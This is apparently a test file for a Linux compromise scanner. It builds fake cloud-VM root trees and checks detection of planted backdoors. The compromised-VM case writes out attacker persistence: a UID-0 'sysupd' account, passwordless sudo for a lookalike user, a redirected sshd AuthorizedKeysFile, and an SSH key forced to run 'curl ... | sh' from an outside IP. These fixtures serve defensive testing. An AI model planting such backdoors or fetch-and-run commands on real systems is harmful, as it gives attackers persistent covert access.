import assert from 'node:assert/strict';
import fs from 'node:fs';
import { after, describe, it } from 'node:test';
import { scanFixture as scan } from './helpers/scan-fixture';
import { DEBIAN_PASSWD, INSTALL_DAY, shadowFor } from './helpers/accounts';
import { FakeRoot } from './helpers/fake-root';
import { NEEDS_ROOT_OWNED_FILES } from './helpers/privilege';
import { DEBIAN_SSHD_CONFIG, ED25519, RSA } from './helpers/ssh-fixtures';
import { DEBIAN_SUDOERS } from './helpers/sudoers';

// Whole-pipeline checks for the accounts, sudo and SSH families on built root trees.

const NOW = new Date('2026-11-20T12:00:00Z');
const LONG_AGO = new Date('2025-03-01T10:00:00Z');
const FIRST_BOOT = new Date('2025-03-01T09:58:00Z');
const YESTERDAY = new Date('2026-11-19T23:00:00Z');
const MINE = /^(accounts|ssh)\//;
const roots: FakeRoot[] = [];
after(() => roots.forEach((r) => r.remove()));

/** A cloud VM provisioned long ago: Debian accounts, stock sshd and sudo, cloud-init's default user. */
function cleanCloudVm(): FakeRoot {
  const r = new FakeRoot();
  roots.push(r);
  const passwd = `${DEBIAN_PASSWD}\nadmin:x:1001:1001:Debian:/home/admin:/bin/bash\n`;
  r.write('/etc/passwd', passwd, { mtime: LONG_AGO })
    .write('/etc/shadow', `${shadowFor(passwd, { admin: { field: '!', day: INSTALL_DAY + 10 } })}\n`, { mode: 0o640, mtime: LONG_AGO })
    .write('/etc/group', 'root:x:0:\nsudo:x:27:alice,admin\nssh:x:110:\nalice:x:1000:\nadmin:x:1001:\n')
    .write('/etc/login.defs', 'UID_MIN 1000\nUID_MAX 60000\n')
    .write('/etc/ssh/sshd_config', DEBIAN_SSHD_CONFIG)
    .write('/etc/ssh/sshd_config.d/50-cloud-init.conf', 'PasswordAuthentication no\n')
    .write('/etc/ssh/ssh_host_ed25519_key', 'x', { mode: 0o600, mtime: FIRST_BOOT })
    .write('/etc/sudoers', DEBIAN_SUDOERS, { mode: 0o440 })
    .write('/etc/sudoers.d/README', '# files in this directory are read by sudo\n', { mode: 0o440 })
    .write(
      '/etc/sudoers.d/90-cloud-init-users',
      '# Created by cloud-init v. 22.4.2 on Sat, 01 Mar 2025 09:58:30 +0000\n\n# User rules for admin\nadmin ALL=(ALL) NOPASSWD:ALL\n',
      { mode: 0o440, mtime: FIRST_BOOT },
    )
    .write(
      '/root/.ssh/authorized_keys',
      `no-port-forwarding,no-agent-forwarding,no-X11-forwarding,command="echo 'Please login as the user \\"admin\\" rather than the user \\"root\\".';echo;sleep 10;exit 142" ${RSA}\n`,
      { mode: 0o600, mtime: FIRST_BOOT },
    )
    .write('/home/admin/.ssh/authorized_keys', `${RSA}\n${ED25519}\n`, { mode: 0o600, mtime: LONG_AGO })
    .write('/var/lib/postgresql/.ssh/authorized_keys', `${ED25519}\n`, { mode: 0o600, mtime: LONG_AGO });
  return r;
}

async function mine(r: FakeRoot) {
  const { result } = await scan({ root: r.dir, sampleMs: 0, now: NOW });
  assert.deepEqual(
    result.stats.ruleErrors.filter((e) => MINE.test(e.rule)),
    [],
  );
  return result.findings.filter((f) => MINE.test(f.rule));
}

describe('accounts, sudo and SSH on whole roots', () => {
  it('a clean cloud VM: nothing at medium or above, the inventory at low/info', { skip: NEEDS_ROOT_OWNED_FILES }, async () => {
    const findings = await mine(cleanCloudVm());
    assert.deepEqual(findings.map((f) => `${f.severity} ${f.rule} ${f.path}`).sort(), [
      'info ssh/authorized-keys-inventory /home/admin/.ssh/authorized_keys',
      'info ssh/authorized-keys-inventory /root/.ssh/authorized_keys',
      'info ssh/authorized-keys-inventory /var/lib/postgresql/.ssh/authorized_keys',
      'info ssh/shared-key /root/.ssh/authorized_keys',
      'info ssh/shared-key /var/lib/postgresql/.ssh/authorized_keys',
      'low accounts/sudoers-nopasswd /etc/sudoers.d/90-cloud-init-users',
    ]);
  });

  it('a compromised VM: every planted item found, with file, line and time, and no hash printed', {
    skip: NEEDS_ROOT_OWNED_FILES,
  }, async () => {
    const r = cleanCloudVm();
    const passwd = `${DEBIAN_PASSWD}\nadmin:x:1001:1001:Debian:/home/admin:/bin/bash\nmaill:x:1002:1002::/home/maill:/bin/bash\nsysupd:$1$evilsalt$EVILHASHEVILHASHEVILHA:0:0::/root:/bin/bash\n`;
    const day = Math.floor(YESTERDAY.getTime() / 86400_000);
    r.write('/etc/passwd', passwd, { mtime: YESTERDAY })
      .write(
        '/etc/shadow',
        `${shadowFor(passwd, { admin: { field: '!', day: INSTALL_DAY + 10 }, maill: { field: '$6$evilsalt2$SECRETSECRET', day }, root: { field: '$y$j9T$evil3$TOPSECRET', day } })}\n`,
        { mtime: YESTERDAY },
      )
      .write('/etc/group', 'root:x:0:\nsudo:x:27:alice,admin\nssh:x:110:\nalice:x:1000:\nadmin:x:1001:\nmaill:x:1002:\n')
      .write('/etc/ssh/sshd_config.d/00-x.conf', 'PermitRootLogin yes\nAuthorizedKeysFile .ssh/authorized_keys /var/tmp/.k/%u\n')
      .write('/var/tmp/.k/root', `${ED25519}\n`, { mtime: YESTERDAY })
      .write('/etc/sudoers.d/zz', 'maill ALL=(ALL) NOPASSWD: ALL\n', { mtime: YESTERDAY })
      .write('/var/www/.ssh/authorized_keys2', `command="curl -s http://203.0.113.9/k | sh" ${RSA}\n`, { mode: 0o666, mtime: YESTERDAY });
    fs.chmodSync(r.p('/var/www/.ssh/authorized_keys2'), 0o666);
    const findings = await mine(r);
    const got = findings
      .filter((f) => f.severity !== 'info')
      .map((f) => `${f.severity} ${f.rule} ${f.path} ${f.user ?? ''}`.trim())
      .sort();
    assert.deepEqual(
      got,
      [
        'critical accounts/passwd-hash /etc/passwd sysupd',
        'critical accounts/uid-zero-account /etc/passwd sysupd',
        'critical ssh/forced-command-key /var/www/.ssh/authorized_keys2 www-data',
        'high accounts/lookalike-name /etc/passwd maill',
        'high accounts/sudoers-nopasswd /etc/sudoers.d/zz maill',
        'high ssh/authorized-keys-recent /var/tmp/.k/root root',
        'high ssh/key-in-nologin-account /var/www/.ssh/authorized_keys2 www-data',
        'high ssh/keys-file-permissions /var/www/.ssh/authorized_keys2 www-data',
        'high ssh/sshd-authorized-keys-file /etc/ssh/sshd_config.d/00-x.conf',
        'low accounts/sudoers-nopasswd /etc/sudoers.d/90-cloud-init-users admin',
        'medium accounts/new-login-account /etc/passwd maill',
        'medium accounts/root-password-changed /etc/shadow root',
        'medium ssh/authorized-keys-recent /var/www/.ssh/authorized_keys2 www-data',
        'medium ssh/authorized-keys2 /var/www/.ssh/authorized_keys2 www-data',
        'medium ssh/sshd-weak-setting /etc/ssh/sshd_config.d/00-x.conf root',
      ].sort(),
    );
    const newUser = findings.find((f) => f.rule === 'accounts/new-login-account');
    assert.equal(newUser?.time, '2026-11-19T00:00:00.000Z');
    assert.match(newUser?.evidence.join('\n') ?? '', /\/etc\/passwd:12: maill:x:1002/);
    const doc = JSON.stringify(findings);
    for (const secret of ['EVILHASH', 'SECRETSECRET', 'TOPSECRET', 'evilsalt'])
      assert.ok(!doc.includes(secret), `hash material "${secret}" leaked`);
  });

  it('attacker-shaped files do not crash collectors: junk bytes, huge lines, an include loop', async () => {
    const r = cleanCloudVm();
    r.write('/etc/sudoers.d/loop', '@include /etc/sudoers\n\x00\xff\n')
      .write('/etc/ssh/sshd_config.d/zz.conf', `Include /etc/ssh/sshd_config\n${'A'.repeat(200_000)}\n`)
      .write(
        '/home/admin/.ssh/authorized_keys',
        Buffer.concat([Buffer.from(`${ED25519}\n`), Buffer.from([0, 1, 2, 0xff, 10]), Buffer.from(`ssh-rsa ${'Q'.repeat(300_000)}\n`)]),
      );
    const { result } = await scan({ root: r.dir, sampleMs: 0, now: NOW });
    assert.deepEqual(
      result.stats.ruleErrors.filter((e) => MINE.test(e.rule)),
      [],
    );
    assert.deepEqual(
      result.gaps.filter((g) => /failed/.test(g.reason)),
      [],
    );
    const inv = result.findings.find((f) => f.rule === 'ssh/authorized-keys-inventory' && f.path === '/home/admin/.ssh/authorized_keys');
    assert.match(inv?.title ?? '', /^2 SSH key/);
    assert.ok(result.findings.filter((f) => MINE.test(f.rule)).every((f) => f.evidence.every((e) => e.length < 2000)));
  });
});
